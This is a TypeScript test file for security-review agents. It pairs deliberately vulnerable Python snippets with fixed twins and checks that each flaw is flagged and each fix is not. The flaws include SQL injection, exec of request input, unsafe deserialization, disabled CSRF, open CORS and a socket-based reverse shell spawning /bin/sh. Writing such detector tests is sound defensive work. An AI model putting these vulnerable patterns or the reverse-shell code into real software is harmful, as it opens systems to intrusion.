import { describe, expect, it } from 'vitest';
import { runAgent } from '../../../agents/run-agent.ts';
import { reviewInput } from '../../../fixtures/review-input.ts';

const flask = 'from flask import Flask, request, render_template\n\n';

/** Dangerous Python code, and a safe twin. */
const cases: [rule: string, weak: string, safe: string][] = [
  [
    'access/not-a-number',
    `${flask}def pay():\n    amount = request.args.get("amount")\n    return take(float(amount))\n`,
    `${flask}def pay():\n    amount = float(request.args["amount"])\n    if not math.isfinite(amount):\n        abort(400)\n    return take(amount)\n`,
  ],
  [
    'injection/spreadsheet-formula',
    `import csv\n${flask}def export():\n    name = request.form["name"]\n    csv.writer(out).writerow([1, name])\n`,
    `import csv\n${flask}def export():\n    csv.writer(out).writerow([1, known.name])\n`,
  ],
  [
    'injection/mail-markup',
    'def send(request):\n    text = request.POST["text"]\n    send_mail("Hi", "", me, you, html_message=text)\n',
    'def send(request):\n    text = request.POST["text"]\n    send_mail("Hi", "", me, you, html_message=escape(text))\n',
  ],
  [
    'injection/mail-markup',
    'def send(request):\n    mail = EmailMessage("Hi", request.POST["text"], me)\n    mail.content_subtype = "html"\n    mail.send()\n',
    'def send(request):\n    mail = EmailMessage("Hi", request.POST["text"], me)\n    mail.send()\n',
  ],
  [
    'injection/call-markup',
    'def call(text):\n    client.calls.create(twiml=f"<Response><Say>{text}</Say></Response>", to=you)\n',
    'def call(text):\n    client.calls.create(twiml=f"<Response><Say>{escape(text)}</Say></Response>", to=you)\n',
  ],
  [
    'injection/name-lookup',
    'def go(request):\n    names = globals()\n    step = names.get(request.GET["step"])\n    return step()\n',
    'def go(request):\n    names = globals()\n    step = names.get("first")\n    return step()\n',
  ],
  [
    'injection/code',
    'async def go(request):\n    text = request.POST["text"]\n    await loop.run_in_executor(None, exec, text)\n',
    'async def go(request):\n    text = request.POST["text"]\n    await loop.run_in_executor(None, exec, fixed)\n',
  ],
  [
    'injection/sql',
    'def _add(cursor, name):\n    text = "INSERT INTO person (name) VALUES (\'%s\')" % (name)\n    cursor.execute(text)\n',
    'def _add(cursor, name):\n    name = "fixed"\n    cursor.execute(f"SELECT 1 FROM person WHERE name = \'{name}\'")\n',
  ],
  [
    'injection/unescaped-template',
    `${flask}def page():\n    return render_template("page.tpl", name=request.args["name"])\n`,
    `${flask}def page():\n    return render_template("page.html", name=request.args["name"])\n`,
  ],
  [
    'access/empty-password',
    'def create(self, mail, password=""):\n    user = self.model(mail=mail)\n    user.set_password(password)\n',
    'def create(self, mail, password=None):\n    user = self.model(mail=mail)\n    user.set_password(password)\n',
  ],
  [
    'access/mass-assignment',
    'def edit(request, number):\n    Thing.objects.filter(pk=number).update(**request.POST)\n',
    'def edit(request, number):\n    Thing.objects.filter(pk=number).update(name=request.POST["name"])\n',
  ],
  [
    'access/reset-link-host',
    `${flask}def forgot(token):\n    link = "https://" + request.host + "/reset/" + token\n    mail.send(link)\n`,
    `${flask}def forgot(token):\n    link = "https://" + settings.HOST + "/reset/" + token\n    mail.send(link)\n`,
  ],
  [
    'access/reverse-shell',
    'import os, socket, subprocess\ns = socket.socket()\ns.connect((host, 4000))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
    'import os, socket, subprocess\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(["worker"])\n',
  ],
  [
    'injection/trusted-markup',
    'def show(name):\n    return format_html(f"<b>{name}</b>")\n',
    'def show(name):\n    return format_html("<b>{}</b>", name)\n',
  ],
  [
    'injection/autoescape-off',
    'from django.shortcuts import render\n\ndef show(request):\n    return render(request, "a.html", {"autoescape": False})\n',
    'from django.shortcuts import render\n\ndef show(request):\n    return render(request, "a.html", {"autoescape": True})\n',
  ],
  [
    'access/log-settings-by-socket',
    'import logging.config\nthread = logging.config.listen(9999)\n',
    'import logging.config\nthread = logging.config.listen(9999, verify=signed)\n',
  ],
  [
    'crypto/secret-as-salt',
    'ids = Hashids(min_length=4, salt=settings.SECRET_KEY)\n',
    'ids = Hashids(min_length=4, salt=settings.HASHIDS_SALT)\n',
  ],
  [
    'access/known-password',
    'def connect(host, password="opensesame"):\n    return Client(host, password)\n',
    'def connect(host, password=None):\n    return Client(host, password)\n',
  ],
  [
    'access/secret-in-token',
    'def token(user, key):\n    data = {"id": user.id, "password": user.password}\n    return jwt.encode(data, key, algorithm="HS256")\n',
    'def token(user, key):\n    data = {"id": user.id}\n    return jwt.encode(data, key, algorithm="HS256")\n',
  ],
  [
    'injection/unsafe-yaml',
    'from ruamel.yaml import YAML\nyaml = YAML(typ="unsafe")\n',
    'from ruamel.yaml import YAML\nyaml = YAML(typ="rt")\nyaml.load(text)\n',
  ],
  ['injection/pickle', 'model = torch.load(path)\n', 'model = torch.load(path, weights_only=True)\n'],
  [
    'injection/pickle',
    'import pickle\nx = pickle.loads(data)\n',
    'import pickle\nx = pickle.loads(b"I1\\n.")\n',
  ],
  [
    'access/cookie-flags',
    'policy = AuthTktAuthenticationPolicy(key, secure=True)\n',
    'policy = AuthTktAuthenticationPolicy(key, secure=True, httponly=True)\n',
  ],
  [
    'access/cookie-flags',
    'def go(response):\n    response.set_cookie("a", b, secure=True, httponly=True, samesite=None)\n',
    'def go(jar):\n    for cookie in others:\n        jar.set_cookie(cookie)\n',
  ],
  [
    'access/csrf-off',
    'def includeme(config):\n    config.set_default_csrf_options(require_csrf=False)\n',
    'def includeme(config):\n    config.set_default_csrf_options(require_csrf=True)\n',
  ],
  [
    'access/csrf-off',
    'app.config.update(\n    WTF_CSRF_ENABLED=False,\n    PORT=1,\n)\n',
    'app.config.update(\n    WTF_CSRF_ENABLED=False,\n    TESTING=True,\n)\n',
  ],
  [
    'transport/plain-protocol',
    'from ftplib import FTP\nftp = FTP("files.example.net")\n',
    'from ftplib import FTP_TLS\nftp = FTP_TLS("files.example.net")\n',
  ],
  [
    'transport/plain-protocol',
    'auth = UsmUserData("reader")\n',
    'auth = UsmUserData("reader", key, other)\n',
  ],
  [
    'transport/plain-protocol',
    'import requests\nurl = "http://api.example.net/v1"\nrequests.get(url)\n',
    'import requests\nurl = "http://localhost:8000/v1"\nrequests.get(url)\n',
  ],
  [
    'injection/wildcard',
    'import os\nos.system("/bin/tar czf /backup/all.tgz *")\n',
    'import os\nos.system("/bin/tar czf /backup/all.tgz -- *")\n',
  ],
  ['access/bind-all', 'app.run(host="0.0.0.0")\n', 'app.run(host="127.0.0.1")\n'],
  [
    'access/open-cors',
    'origins = ["*"]\napp.add_middleware(CORSMiddleware, allow_origins=origins, allow_credentials=True)\n',
    'origins = ["https://shop.test"]\napp.add_middleware(CORSMiddleware, allow_origins=origins, allow_credentials=True)\n',
  ],
];

const agents = ['security.access-control', 'security.crypto-transport', 'security.injection'];

describe('common mistakes in Python', () => {
  it.each(cases)('%s is reported, and its safe twin is not', async (rule, weak, safe) => {
    expect(await rulesOf(weak)).toContain(rule);
    expect(await rulesOf(safe)).not.toContain(rule);
  });
});

async function rulesOf(text: string): Promise<string[]> {
  const { index, entries, dependencies } = await reviewInput({ 'shop/app.py': text });
  const results = await Promise.all(agents.map((agent) => runAgent(agent, index, entries, { dependencies })));
  return results.flatMap(({ findings }) => findings.map(({ ruleId }) => ruleId));
}
